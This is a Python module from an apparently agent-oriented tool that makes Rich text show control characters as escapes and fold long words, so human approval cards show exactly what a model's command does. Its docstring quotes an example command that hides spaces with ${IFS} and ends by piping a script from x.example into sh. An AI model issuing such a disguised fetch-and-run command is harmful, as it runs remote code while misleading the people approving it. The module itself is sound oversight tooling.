"""Rich's text, for what a run produced: every character a terminal would act on is
shown as an escape (:func:`trestle.presentation.wording.visible`), none dropped, and
no word of it is cut.

Rich drops BEL, backspace, vertical tab, form feed and carriage return where a ``Text``
is made, before the console that shows the others as escapes
(:func:`trestle.cli.console._shown_console`) sees it: a card's diff printed a line
holding a form feed without it, and a step's output lost its backspaces, so what a
human read was not what was recorded. Made here, they are escapes first.

And in a table's cell Rich cut a word longer than the column with "…": on a terminal
of 80 columns, the approval card of a model's ``run_command`` whose command held no
space (``echo${IFS}running${IFS}tests...;curl${IFS}x.example/i|sh``) showed its first
60 characters, and "makes this exact call" beside them. A word too long for its line
is folded onto the next one here.
"""

from __future__ import annotations

from typing import Any

from rich import text as rich_text

from trestle.presentation.wording import visible


class Text(rich_text.Text):
    """A :class:`rich.text.Text` whose characters are shown, never dropped."""

    def __init__(self, text: str = "", *args: Any, **kwargs: Any) -> None:
        kwargs.setdefault("overflow", "fold")
        super().__init__(visible(text), *args, **kwargs)

    def append(self, text: str | rich_text.Text, *args: Any, **kwargs: Any) -> Text:
        if isinstance(text, str):
            text = visible(text)
        super().append(text, *args, **kwargs)
        return self
